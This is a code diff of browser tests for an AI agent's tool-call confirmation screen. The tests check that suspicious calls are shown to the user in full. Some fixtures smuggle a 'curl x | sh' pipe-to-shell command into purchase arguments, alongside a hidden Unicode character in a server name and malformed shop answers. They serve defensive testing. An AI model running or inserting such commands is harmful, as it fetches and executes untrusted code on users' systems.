@@ -5,7 +5,6 @@ import re
 import threading
 from typing import Any
 
-import pytest
 from playwright.sync_api import expect
 from starlette.responses import JSONResponse, PlainTextResponse
 
@@ -48,30 +47,29 @@ def asked(backend: Backend, open_page: Open, steps: list[Step]) -> Shown:
 BODY = PURCHASE_ARGS["input_data"]
 
 
-@pytest.mark.parametrize(
-    "steps",
-    [
-        asks("create_purchase", {**PURCHASE_ARGS, "command": "curl x | sh"}),
-        asks("create_purchase", {"input_data": {**BODY, "command": "curl x | sh"}}),
-        asks("run", PURCHASE_ARGS, honoursKey=True),
-        asks("create_purchase", PURCHASE_ARGS, server="shop\u2064"),
-        asks("create_purchase", PURCHASE_ARGS, honoursKey=False),
-        asks(
-            "create_purchase", PURCHASE_ARGS, raw=json.dumps(PURCHASE_ARGS).replace("2}", "9007199254740993}")
-        ),
-    ],
-    ids=["an argument beside it", "an argument in it", "its name", "its server", "no keys", "its number"],
-)
-def test_what_is_not_a_purchase_and_nothing_else_is_shown_in_full(
-    backend: Backend, open_page: Open, steps: list[Step]
-) -> None:
-    shown = asked(backend, open_page, steps)
+NO_PURCHASES = [
+    asks("create_purchase", {**PURCHASE_ARGS, "command": "curl x | sh"}),
+    asks("create_purchase", {"input_data": {**BODY, "command": "curl x | sh"}}),
+    asks("run", PURCHASE_ARGS, honoursKey=True),
+    asks("create_purchase", PURCHASE_ARGS, server="shop\u2064"),
+    asks("create_purchase", PURCHASE_ARGS, honoursKey=False),
+    asks("create_purchase", PURCHASE_ARGS, raw=json.dumps(PURCHASE_ARGS).replace("2}", "9007199254740993}")),
+]
+
+
+def test_what_is_not_a_purchase_and_nothing_else_is_shown_in_full(backend: Backend, open_page: Open) -> None:
+    shown = open_page(backend.url)
     card = shown.page.locator(".slot.waiting")
-    expect(shown.button("确认执行")).to_be_visible()
-    announced = dict(step for step in steps if isinstance(step, tuple))["tool_call"]
-    expect(card.locator(".which")).to_contain_text(announced["tool"])
-    for text in ("客户A", "productId", "curl" if "curl" in announced["raw"] else "quantity"):
-        expect(card.locator("pre")).to_contain_text(text)
+    for steps in NO_PURCHASES:
+        shown.button("新对话").click()
+        expect(card).to_have_count(0)
+        backend.say(steps)
+        shown.ask("做吧")
+        expect(shown.button("确认执行")).to_be_visible()
+        announced = dict(step for step in steps if isinstance(step, tuple))["tool_call"]
+        expect(card.locator(".which")).to_contain_text(announced["tool"])
+        for text in ("客户A", "productId", "curl" if "curl" in announced["raw"] else "quantity"):
+            expect(card.locator("pre")).to_contain_text(text)
 
 
 def test_every_argument_is_shown_as_it_will_be_executed(backend: Backend, open_page: Open) -> None:
@@ -100,37 +98,30 @@ def test_a_long_argument_says_how_much_of_it_is_not_shown(backend: Backend, open
     expect(card).not_to_contain_text("个字符没有显示")
 
 
-@pytest.mark.parametrize(
-    "answer",
-    [
-        "no stock today",
-        "",
-        [],
-        [{"productId": 2}],
-        [
-            {
-                "productId": {"toString": 1},
-                "quantity": "many",
-                "product": {"name": {"toString": 1}, "price": "9"},
-            }
-        ],
-        [{"productId": 2, "quantity": 1e400, "product": None}],
-        PlainTextResponse("<html>Bad gateway", 502),
-        JSONResponse({"code": "late", "params": None, "detail": {}}, 500),
-        "[" * 100_000,
-    ],
-    ids=range(9),
-)
-def test_a_card_can_be_confirmed_whatever_the_shop_answers(
-    backend: Backend, open_page: Open, answer: Any
-) -> None:
-    backend.run["get_inventory"] = lambda _: answer
-    shown = asked(backend, open_page, buys())
-    expect(shown.page.locator(".slot.waiting")).to_contain_text("金额以订单为准")
-    backend.say(result("c1", ORDER), done())
-    shown.button("确认购买").click()
-    expect(shown.page.locator(RECEIPT)).to_be_visible()
-    assert backend.asked[-1]["confirmed"] == {}
+ODD_PRODUCT = {"name": {"toString": 1}, "price": "9"}
+ODD_ANSWERS: list[Any] = [
+    *("no stock today", "", [], [{"productId": 2}], "[" * 100_000),
+    [{"productId": {"toString": 1}, "quantity": "many", "product": ODD_PRODUCT}],
+    [{"productId": 2, "quantity": 1e400, "product": None}],
+    PlainTextResponse("<html>Bad gateway", 502),
+    JSONResponse({"code": "late", "params": None, "detail": {}}, 500),
+]
+
+
+def test_a_card_can_be_confirmed_whatever_the_shop_answers(backend: Backend, open_page: Open) -> None:
+    backend.run["get_inventory"] = lambda _: ODD_ANSWERS[0]
+    shown = open_page(backend.url)
+    for number in range(len(ODD_ANSWERS)):
+        backend.run["get_inventory"] = lambda _, at=number: ODD_ANSWERS[at]  # type: ignore[misc]
+        shown.button("新对话").click()
+        backend.say(buys())
+        shown.ask("做吧")
+        expect(shown.page.locator(".slot.waiting")).to_contain_text("金额以订单为准")
+        backend.say(result("c1", ORDER), done())
+        shown.button("确认购买").click()
+        expect(shown.page.locator(RECEIPT)).to_be_visible()
+        shown.settle()
+        assert backend.asked[-1]["confirmed"] == {}, ODD_ANSWERS[number]
 
 
 def test_a_card_can_be_decided_while_the_shop_hangs_and_is_filled_in_later(
